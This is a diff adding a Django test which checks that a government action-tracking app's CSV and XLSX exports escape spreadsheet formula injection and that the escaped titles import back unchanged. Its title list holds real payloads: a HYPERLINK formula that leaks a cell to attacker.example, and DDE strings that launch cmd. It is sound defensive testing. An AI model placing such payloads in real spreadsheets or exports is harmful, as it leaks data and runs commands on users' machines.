@@ -97,3 +97,50 @@ def test_an_exported_list_imports_back_unchanged(world, actions):
     events = AuditEvent.objects.count()
     apply(preview, acting_user=None)
     assert AuditEvent.objects.count() == events
+
+
+DANGEROUS_TITLES = [
+    '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-",
+    "'=escaped by hand",
+    "#N/A",
+]
+
+
+def test_dangerous_titles_are_escaped_and_import_back_unchanged(world):
+    """Formula injection: the export escapes the text, never writes a formula, and the
+    escape is undone on import, so the round trip changes nothing."""
+    from openpyxl import load_workbook
+
+    from lazos.actions.services import create_action
+
+    for index, title in enumerate(DANGEROUS_TITLES):
+        create_action(
+            world.government,
+            acting_user=None,
+            title=title,
+            modality="mission",
+            status="planned",
+            external_id=f"A-{index}",
+        )
+    url = reverse("actions:action-list")
+    client = world.client_for("viewer")
+    escaped = {"'" + t if t[0] in "=+-@" or t.startswith("'=") else t for t in DANGEROUS_TITLES}
+
+    text = client.get(url, {"export": "csv"}).content.decode("utf-8").lstrip("\ufeff")
+    assert {row[2] for row in list(csv.reader(io.StringIO(text)))[1:]} == escaped
+
+    data = client.get(url, {"export": "xlsx"}).content
+    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
+    cells = [row[2] for row in sheet.iter_rows(min_row=2)]
+    assert {cell.value for cell in cells} == escaped
+    assert {cell.data_type for cell in cells} == {"s"}
+    assert all(isinstance(row[0].value, int) for row in sheet.iter_rows(min_row=2))
+
+    for fmt, content in (("csv", text.encode()), ("xlsx", data)):
+        preview = plan(world.government, read_bytes(content, f"actions.{fmt}"), kind="actions")
+        assert preview.errors == [], fmt
+        assert preview.counts["unchanged"] == len(DANGEROUS_TITLES), fmt
